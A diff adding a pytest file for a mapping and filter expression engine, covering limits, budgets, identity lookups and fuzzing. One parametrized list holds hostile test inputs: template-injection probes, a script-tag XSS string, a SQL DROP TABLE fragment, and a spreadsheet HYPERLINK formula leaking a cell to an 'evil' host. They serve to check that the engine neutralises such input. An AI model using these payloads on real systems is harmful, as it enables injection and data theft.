@@ -1,0 +1,324 @@
+"""Filters and field mappings: what is refused when saved, what comes out, and what is told when nothing can."""
+
+import copy
+from datetime import UTC
+from zoneinfo import ZoneInfo
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hub.mappings.expressions.functions import Functions
+from hub.mappings.translate import (
+    Explanation,
+    IdentityMissing,
+    MappingError,
+    MappingFailed,
+    collect_identities,
+    compile_filter,
+    compile_mapping,
+    translate,
+)
+
+ORDER = {
+    "id": "01890000-0000-7000-8000-000000000001",
+    "type": "order.created",
+    "tenant": "acme",
+    "occurred_at": "2026-10-01T12:00:00Z",
+    "data": {"total": 40, "currency": "EUR", "owner": 7, "lines": [{"sku": "a", "n": 2}, {"sku": "b", "n": 1}]},
+}
+PEOPLE = {("user", "7"): "U7"}
+
+
+def translated(mapping, document=ORDER):
+    return translate(
+        compile_mapping(mapping),
+        document,
+        zone=ZoneInfo("Europe/Berlin"),
+        identities=lambda kind, value: PEOPLE.get((kind, value)),
+    )
+
+
+def refusal(mapping):
+    with pytest.raises(MappingError) as error:
+        compile_mapping(mapping)
+    return error.value.path, error.value.message
+
+
+def failure(expression, document=ORDER):
+    with pytest.raises(MappingFailed) as error:
+        translated({"field": expression}, document)
+    return error.value.message, error.value.value
+
+
+def nested(depth, leaf):
+    for _ in range(depth):
+        leaf = {"a": leaf}
+    return leaf
+
+
+# --- mappings --------------------------------------------------------------------------------------------------------
+
+
+def test_a_mapping_is_filled_in_at_any_depth():
+    mapping = {
+        "channel": "'#orders'",
+        "text": "concat('New order of ', money(data.total, data.currency))",
+        "more": {
+            "when": "format_date(occurred_at, 'HH:mm')",
+            "skus": "data.lines[].sku",
+            "list": ["type", 1, None, True],
+        },
+        "nickname": "data.nickname",
+        "owner": "identity('user', data.owner)",
+    }
+    assert translated(mapping) == {
+        "channel": "#orders",
+        "text": "New order of 40.00 EUR",
+        "more": {"when": "14:00", "skus": ["a", "b"], "list": ["order.created", 1, None, True]},
+        "nickname": None,
+        "owner": "U7",
+    }
+
+
+def test_an_empty_mapping_gives_an_empty_object():
+    assert translated({}) == {}
+
+
+def test_the_same_document_gives_the_same_and_stays_as_it_is():
+    before = copy.deepcopy(ORDER)
+    mapping = compile_mapping({"data": "data", "constant": '`{"a": []}`'})
+    first = translate(mapping, ORDER, zone=UTC, identities=PEOPLE.get)
+    first["data"]["lines"].clear()
+    first["constant"]["a"].append(1)
+    assert translate(mapping, ORDER, zone=UTC, identities=PEOPLE.get) == {"data": before["data"], "constant": {"a": []}}
+    assert before == ORDER
+
+
+@pytest.mark.parametrize(
+    ("mapping", "path", "message"),
+    [
+        ([], "", "a field mapping is a JSON object"),
+        (None, "", "a field mapping is a JSON object"),
+        ("data", "", "a field mapping is a JSON object"),
+        ({"a": object()}, "", "is not JSON, or nested too deeply"),
+        (nested(5000, 1), "", "is not JSON, or nested too deeply"),
+        ({"a": "x" * 66_000}, "", "is larger than 64 KiB"),
+        (nested(21, "id"), "/a" * 21, "is nested deeper than 20 levels"),
+        ({"a": [0] * 501}, "/a/500", "has more than 500 fields"),
+        ({"a": [{}] * 501}, "/a/500", "has more than 500 fields"),
+        ({1: "id"}, "", "has a key that is not text"),
+        ({"a\0": "id"}, "", "has a NUL character, which cannot be stored"),
+        ({"a": {"\ud800": "id"}}, "/a", "has half a surrogate pair, which cannot be encoded"),
+        ({"a": float("nan")}, "/a", "is NaN or infinite, which JSON does not have"),
+        ({"a": 10**30}, "/a", "is a whole number of more than 64 bits"),
+        ({"a": ["id", {"b/c~d": "nope("}]}, "/a/1/b~1c~0d", "ends too early"),
+        ({"a": "shout(id)"}, "/a", "calls shout(), which does not exist"),
+    ],
+    ids=lambda value: None if isinstance(value, str) else "mapping",
+)
+def test_a_mapping_with_a_mistake_is_not_saved(mapping, path, message):
+    assert refusal(mapping) == (path, message)
+
+
+def test_a_mapping_may_be_as_deep_and_as_wide_as_it_says():
+    assert translated(nested(20, "id")) == nested(20, ORDER["id"])
+    assert len(translated({str(number): "id" for number in range(500)})) == 500
+
+
+def test_an_error_says_where_and_which_expression():
+    with pytest.raises(MappingFailed) as error:
+        translated({"a": {"b": "upper(data.total)"}})
+    assert str(error.value) == "/a/b: upper() takes string: 40"
+    assert error.value.expression == "upper(data.total)"
+
+
+def test_an_unknown_identity_flies_as_it_is():
+    with pytest.raises(IdentityMissing) as error:
+        translated({"a": "identity('deal', data.owner)"})
+    assert (error.value.kind, error.value.value) == ("deal", "7")
+
+
+@pytest.mark.parametrize(
+    ("value", "message", "told"),
+    [
+        (float("nan"), "is NaN or infinite, which JSON does not have", "NaN"),
+        (float("-inf"), "is NaN or infinite, which JSON does not have", "-Infinity"),
+        (2**64, "is a whole number of more than 64 bits", "18446744073709551616"),
+        ("a\0b", "has a NUL character, which cannot be stored", '"a\\u0000b"'),
+        ([{"\ud800": 1}], "has half a surrogate pair, which cannot be encoded", '"\\ud800"'),
+        ({1: 1}, "has a key that is not text", "1"),
+        (UTC, "is not a JSON value", '"…"'),
+    ],
+    ids=str,
+)
+def test_what_cannot_be_stored_does_not_come_out(value, message, told):
+    assert failure("data", {"data": value}) == (message, told)
+
+
+def test_a_result_is_bounded_in_size_and_depth():
+    assert failure("data", {"data": ["x" * 1000] * 300}) == ("is larger than 256 KiB", "")
+    assert failure("data", {"data": nested(65, 1)})[0] == "is nested deeper than 64 levels"
+
+
+def test_all_fields_of_a_message_share_its_budget():
+    half = f"length({'|'.join(['[@,@][]'] * 12)})"
+    assert translated({"a": half}) == {"a": 2**12}
+    with pytest.raises(MappingFailed, match="takes more than 30000 steps"):
+        translated({"a": half, "b": half})
+
+
+@pytest.mark.parametrize("step", ["[@,@]", "[@,@][]"])
+@pytest.mark.parametrize("times", [18, 22, 60])
+def test_an_expression_that_explodes_is_stopped(step, times):
+    assert failure("|".join([step] * times))[0] in {
+        "takes more than 30000 steps to work out",
+        "is larger than 256 KiB",
+        "is nested deeper than 64 levels",
+    }
+
+
+HOSTILE = [
+    "{{7*7}}",
+    "{{constructor.constructor('x')()}}",
+    "{% debug %}",
+    "${7*7}",
+    "#{7*7}",
+    "{0.__class__.__mro__}",
+    "%(x)s",
+    "__import__('os')",
+    "a.__class__",
+    "a[-1]",
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://evil?"&A1,"x")',
+    "'; DROP TABLE",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_template_from_elsewhere_is_refused_or_finds_nothing(text):
+    try:
+        result = translated({"field": text})
+    except MappingError:
+        return
+    assert result == {"field": None}
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_template_in_the_data_or_in_a_literal_stays_text(text):
+    quoted = text.replace("'", "\\'")
+    mapping = {"data": "concat('', data)", "literal": f"replace('x', 'x', '{quoted}')"}
+    assert translated(mapping, {"data": text}) == {"data": text, "literal": text}
+
+
+# --- identities beforehand -------------------------------------------------------------------------------------------
+
+
+def test_the_identities_of_a_message_can_be_known_beforehand():
+    mapping = compile_mapping({"a": "identity('user', data.owner)", "b": ["data.lines[].identity('sku', sku)", "id"]})
+    assert collect_identities(mapping, ORDER, UTC) == {("user", "7"), ("sku", "a"), ("sku", "b")}
+    assert collect_identities(compile_mapping({"a": "id"}), ORDER, UTC) == set()
+
+
+def test_a_mapping_that_cannot_be_filled_in_asks_for_what_it_can():
+    mapping = compile_mapping({"a": "identity('user', upper(data.owner))", "b": "identity('user', data.owner)"})
+    assert collect_identities(mapping, ORDER, UTC) == {("user", "7")}
+
+
+# --- filters ---------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("expression", "passes"),
+    [
+        ("type == 'order.created'", True),
+        ("data.total > `100`", False),
+        ("data.total > `10` && data.currency == 'EUR'", True),
+        ("data.total > 'x'", False),
+        ("data.lines[?n > `1`]", True),
+        ("data.lines[?n > `9`]", False),
+        ("data.nothing", False),
+        ("!(data.nothing)", True),
+        ("`0`", True),
+        ("format_date(occurred_at, 'H') == '12'", True),
+    ],
+)
+def test_a_filter_passes_what_is_true(expression, passes):
+    assert compile_filter(expression).passes(ORDER) is passes
+    assert compile_filter(expression).explain(ORDER).passed is passes
+
+
+@pytest.mark.parametrize(
+    ("expression", "clause", "value"),
+    [
+        ("type == 'order.created' && data.total > `100` && id", "data.total > `100`", "40"),
+        ("'USD' == data.currency", "'USD' == data.currency", '"EUR"'),
+        ("id && !(data.owner)", "!(data.owner)", "7"),
+        ("starts_with(type, 'deal.') && id", "starts_with(type, 'deal.')", '"order.created"'),
+        ("length(data.lines) > `2`", "length(data.lines) > `2`", "2"),
+        ("data.vip || data.total > `100`", "data.vip || data.total > `100`", "false"),
+        ("data.vip", "data.vip", "null"),
+        ("`false`", "`false`", "false"),
+    ],
+)
+def test_the_clause_that_refused_is_named_with_what_it_looked_at(expression, clause, value):
+    assert compile_filter(expression).explain(ORDER) == Explanation(False, clause, value)
+
+
+def test_a_filter_that_cannot_be_worked_out_names_its_clause():
+    chain = compile_filter("id && starts_with(data.total, 'x')")
+    with pytest.raises(MappingFailed) as error:
+        chain.explain(ORDER)
+    assert (error.value.expression, error.value.value) == ("starts_with(data.total, 'x')", "40")
+    with pytest.raises(MappingFailed):
+        chain.passes(ORDER)
+
+
+@pytest.mark.parametrize("expression", ["", "type =", "shout(id)", "identity('user', id) && id"])
+def test_a_filter_with_a_mistake_is_not_saved(expression):
+    with pytest.raises(MappingError):
+        compile_filter(expression)
+
+
+# --- whatever comes --------------------------------------------------------------------------------------------------
+
+anything = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.text(st.characters(codec=None), max_size=10)
+    | st.sampled_from(
+        ["2026-10-01", "2026-10-01T12:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "1e400", 10**400]
+    ),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from("abc"), inner, max_size=3),
+    max_leaves=10,
+)
+atoms = st.sampled_from(
+    ["a", "b", "c", "@", "a.b", "[a,b]", "{a: b}", "'a'", "'days'", "`2`", "`-1`", "`1e300`", "`null`", "*", "[]"]
+)
+expressions = st.recursive(
+    atoms,
+    lambda inner: (
+        st.builds(
+            "{}({})".format,
+            st.sampled_from(sorted(Functions.FUNCTION_TABLE)),
+            st.lists(inner, min_size=1, max_size=3).map(", ".join),
+        )
+        | st.builds("({}) {} ({})".format, inner, st.sampled_from(["==", "<", ">=", "&&", "||", "|", "!="]), inner)
+        | st.builds("{}[?{}]".format, atoms, inner)
+        | st.builds("sort_by({}, &{})".format, inner, inner)
+        | st.builds("map(&{}, {})".format, inner, inner)
+        | st.builds("({})[::{}]".format, inner, st.sampled_from(["1", "-1", "2"]))
+    ),
+    max_leaves=8,
+)
+
+
+@given(expressions, anything)
+def test_nothing_else_is_ever_raised(expression, value):
+    try:
+        assert set(translated({"field": expression}, {"a": value, "b": [value, 1], "c": "x"})) == {"field"}
+        compile_filter(expression).explain({"a": value})
+    except (MappingError, MappingFailed, IdentityMissing) as error:
+        assert str(error).encode()
